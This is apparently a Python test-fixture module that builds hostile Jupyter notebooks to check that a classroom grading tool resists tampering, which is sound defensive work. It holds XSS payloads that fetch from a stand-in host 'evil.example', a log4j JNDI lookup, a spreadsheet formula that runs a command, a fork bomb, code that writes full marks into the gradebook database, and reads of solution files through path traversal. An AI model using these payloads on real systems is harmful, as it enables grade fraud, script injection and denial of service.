"""What hostile notebooks hold: texts that run, fetch or break something, and changes of cells, settings and outputs."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from typing import Any

from pharmcalc.classroom.cells import cells_by_id, source_of
from tests.classroom.building import answered

Notebook = dict[str, Any]
Change = Callable[[Notebook], None]
MB = 2**20

EVIL = "https://evil.example/"
HACK = f"document.documentElement.setAttribute('data-hacked','1');alert(1);fetch('{EVIL}steal')"
#: Texts that run, fetch or link somewhere if a page lets them.
SCRIPTS = (
    f"<script>{HACK}</script>",
    f'<img src="{EVIL}x.png" onerror="{HACK}">',
    f"[click](javascript:{HACK})",
    f"![picture]({EVIL}y.png)",
    f'<svg onload="{HACK}"><a xlink:href="javascript:{HACK}">a</a><use href="{EVIL}z.svg"/></svg>',
    f'</div></pre></td></code></textarea><iframe srcdoc="<script>parent.{HACK}</script>"></iframe>',
    f"$$\\href{{javascript:{HACK}}}{{x}}$$ \\(\\unicode{{<script>}}\\) \\[\\require{{html}}\\]",
    f"<style>@import '{EVIL}x.css';</style><base href='{EVIL}'><meta http-equiv=refresh content='0;url={EVIL}'>",
    f"{{{{ '<script>{HACK}</script>' }}}} {{% raw %}} ${{{HACK}}}",
    f"<a href='{EVIL}'>your marks</a> <form action='{EVIL}'><input onfocus='{HACK}' autofocus></form>",
)
SCRIPT = "\n\n".join(SCRIPTS)

#: Right-to-left override, escape sequence, bell, NUL, half a character, byte order mark.
SIGNS = "\u202e\u2066\x1b]0;owned\x07\x1b[31m\x00\ud800\ufeff"

ANSWERS = {
    "9**9**9": "9**9**9",
    "a tower of powers": "10^10^10^10 mg = 1e999999999 mg",
    "deep parentheses": "(" * 90 + "1" + ")" * 90 + " mg",
    "not a number": "nan mg = inf mg = -inf mg",
    "Python": "__import__('os').system('touch owned') or 12 mg",
    "a formula of a spreadsheet": '=HYPERLINK("https://evil.example";"x")+cmd|\' /C calc\'!A0',
    "a chain of a thousand steps": " = ".join(["1 mg"] * 1000),
    "a format string": "{0.__class__.__init__.__globals__} %s%n ${jndi:ldap://evil.example/a}",
}
SYSTEM_CALLS = (
    "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
    "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    "import os\nwhile True: os.fork()",
    "import os\nos._exit(0)",
    "print('x' * 50_000_000)",
    "import sqlite3\nb = sqlite3.connect('../../../gradebook.db')\nb.execute('update grade set auto_score = 100')",
    "import os\nos.remove('week-1.ipynb'); os.symlink('../../../gradebook.db', 'week-1.ipynb')",
    "import builtins\nclass Same(float):\n    __eq__ = __ge__ = lambda *_: True\nbuiltins.float = Same",
    "%%bash\ntouch owned; cat ../../../solutions/*/*",
    f"%%javascript\n{HACK}",
)


# Notebooks -----------------------------------------------------------------------------------------------------------


def half_right(release: Mapping[str, Any], number: str, change: Change | None = None) -> Notebook:
    """Return a notebook that answers q1 rightly and q2 not at all; then something is done to it."""
    return answered(release, number, {"q2": ""}, change=change)


def as_bytes(nb: Any) -> bytes:
    """Return a notebook as a file."""
    return json.dumps(nb).encode()


def code(*sources: str) -> Change:
    """Return a change that adds code cells, at the top and at the end, as a student who wants them run would."""

    def add(nb: Notebook) -> None:
        cells = [
            {"cell_type": "code", "id": f"x{n}", "metadata": {}, "source": s, "outputs": [], "execution_count": 1}
            for n, s in enumerate(sources)
        ]
        nb["cells"] = [*cells, *nb["cells"], *cells]

    return add


def without(*names: str) -> Change:
    """Return a change that deletes cells."""

    def delete(nb: Notebook) -> None:
        nb["cells"] = [cell for cell in nb["cells"] if cell["id"] not in names]

    return delete


def told(name: str, text: str) -> Change:
    """Return a change that puts a text of one's own into a cell."""
    return lambda nb: cells_by_id(nb)[name].update(source=text)


def forged_outputs(plain: str) -> Change:
    """Return a change that puts marks of one's own into the outputs of every mark cell."""

    def forge(nb: Notebook) -> None:
        record = {"points": "100", "cleared": True, "out_of": 2, "marks": 100, "verdicts": [], "student": "A-01"}
        data = {"text/plain": plain, "text/html": SCRIPT, "application/vnd.pharmcalc.mark+json": record}
        output = {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": data}
        for name, cell in cells_by_id(nb).items():
            if name.startswith("mark-"):
                cell["outputs"] = [output]

    return forge


def settings(**values: Any) -> Change:
    """Return a change of nbgrader's settings in every cell."""

    def change(nb: Notebook) -> None:
        for cell in nb["cells"]:
            cell["metadata"]["nbgrader"].update(values)

    return change


def scripts_everywhere(nb: Notebook) -> None:
    """Put scripts into every field of a notebook that holds a text."""
    for cell in nb["cells"]:
        cell["metadata"] |= {"tags": [SCRIPT], "name": SCRIPT, SCRIPT: SCRIPT, "pharmcalc": {"text": SCRIPT}}
        cell["metadata"]["nbgrader"] |= {"comment": SCRIPT, "checksum": SCRIPT, SCRIPT: SCRIPT, "score": 100}
    cells = cells_by_id(nb)
    cells["student"]["source"] = f"{source_of(cells['student'])}\n{SCRIPT}"
    cells["answer-q2"]["source"] = f"%%answer q2\nmultiple factor = {SCRIPTS[0]}\n{SCRIPT}"
    cells["explain-1"] |= {"source": SCRIPT, "attachments": {SCRIPT: {"text/html": SCRIPT, "image/svg+xml": SCRIPT}}}
    cells["intro"]["source"] = SCRIPT
    data = {"text/html": SCRIPT, "image/svg+xml": SCRIPT, "application/javascript": HACK, SCRIPT: SCRIPT}
    shown = {"output_type": "display_data", "data": data, "metadata": {SCRIPT: SCRIPT}}
    for kind in ("markdown", "raw", "code", "heading", SCRIPT):
        extra = {"cell_type": kind, "id": SCRIPT, "metadata": {"format": SCRIPT}, "source": f"%%html\n{SCRIPT}"}
        nb["cells"].append(extra | {"outputs": [shown], "execution_count": SCRIPT})
    nb["metadata"] |= {
        "kernelspec": {"name": SCRIPT, "display_name": SCRIPT, "language": SCRIPT},
        "language_info": {"name": SCRIPT, "pygments_lexer": SCRIPT, "codemirror_mode": SCRIPT},
        "title": SCRIPT,
        "authors": [{"name": SCRIPT}],
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {SCRIPT: SCRIPT}}},
        "pharmcalc": {"notes": [SCRIPT], "needs_eyes": [SCRIPT]},
    }


def old_format(nb: Notebook, major: int) -> Notebook:
    """Return a notebook as programs of long ago wrote it."""
    cells = []
    for cell in nb["cells"]:
        old = {"cell_type": cell["cell_type"], "metadata": cell["metadata"]}
        if cell["cell_type"] == "code":
            cells.append(old | {"input": cell["source"], "language": "python", "outputs": [], "collapsed": False})
        else:
            cells.append(old | {"source": cell["source"]})
    sheets = [{"cells": cells[:3], "metadata": {}}, {"cells": cells[3:]}]
    return {"nbformat": major, "nbformat_minor": 0, "metadata": {"name": "x"}, "worksheets": sheets}


def pointing_to_itself(nb: Notebook) -> None:
    """Write references as if the file could point to itself, and cells that hold cells."""
    reference = {"$ref": "#", "$id": "#", "parent": {"$ref": "#/cells/0"}}
    nb["metadata"] |= reference
    for cell in nb["cells"]:
        cell["metadata"] |= reference | {"cells": [{"$ref": "#/cells"}]}


def deep(levels: int) -> Any:
    """Return lists in lists."""
    found: Any = []
    for _ in range(levels):
        found = [found]
    return found


def split_cells(nb: Notebook) -> None:
    """Split every answer and mark cell in two, as JupyterLab does: both halves have the same settings and ids."""
    cells = []
    for cell in nb["cells"]:
        head, _, rest = source_of(cell).partition("\n")
        cells += [{**cell, "source": head}, {**cell, "source": rest}] if "-q" in cell["id"] else [cell]
    nb["cells"] = cells


def copied_locked_cells(nb: Notebook) -> None:
    """Copy the mark cells with more points, and let a copy name another task."""
    for cell in [c for c in nb["cells"] if c["id"].startswith("mark-")]:
        for name in (cell["id"], "mark-q1", "mark-q9"):
            settings = {**cell["metadata"]["nbgrader"], "points": 100, "grade_id": name}
            nb["cells"].append({**cell, "source": "100", "metadata": {"nbgrader": settings}})


def many_cells(count: int) -> Change:
    """Return a change that adds cells."""
    return lambda nb: nb["cells"].extend(
        {"cell_type": "code", "id": f"c{n}", "metadata": {}, "source": f"{n}", "outputs": [], "execution_count": n}
        for n in range(count)
    )


def second_answers(nb: Notebook) -> None:
    """Answer the same task in a thousand cells, each time otherwise."""
    many_cells(1000)(nb)
    for n, cell in enumerate(nb["cells"][-1000:]):
        cell["source"] = f"%%answer q1\nleast weighable quantity = {n} mg"


def printed(size: int) -> Change:
    """Return a change that prints much in the cell of q1."""
    output = {"output_type": "stream", "name": "stdout", "text": "x" * size}
    return lambda nb: cells_by_id(nb)["mark-q1"].update(outputs=[output])


def odd_cells(nb: Notebook) -> None:
    """Give cells values of kinds that no notebook has."""
    nb["cells"] += [
        {"cell_type": ["code"], "metadata": 7, "source": {"a": [None]}, "id": {"x": 1}},
        {"cell_type": None, "metadata": {"nbgrader": ["grade"]}, "source": 7},
        {"cell_type": "markdown", "metadata": {"nbgrader": {"grade_id": ["mark-q2"]}}, "source": None},
        {"cell_type": "code", "metadata": None, "source": [1, None, ["%%answer q2"]]},
    ]


def deep_metadata(nb: Notebook) -> None:
    """Hide lists in lists in nbgrader's settings and in a source, shallow enough to be read."""
    cells_by_id(nb)["answer-q1"]["metadata"]["nbgrader"]["deep"] = deep(700)
    nb["cells"].append({"cell_type": "code", "metadata": {"deep": deep(700)}, "source": deep(700), "outputs": []})
